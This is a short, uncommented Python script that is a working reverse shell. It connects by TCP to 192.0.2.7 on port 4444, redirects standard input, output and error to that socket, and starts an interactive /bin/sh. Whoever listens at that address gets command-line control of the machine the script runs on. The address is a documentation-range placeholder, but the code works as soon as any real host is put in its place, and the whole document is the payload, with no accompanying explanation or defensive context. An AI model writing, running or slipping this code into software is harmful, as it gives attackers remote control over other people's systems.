import os
import socket
import subprocess

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("192.0.2.7", 4444))
for n in range(3):
    os.dup2(s.fileno(), n)
subprocess.call(["/bin/sh", "-i"])
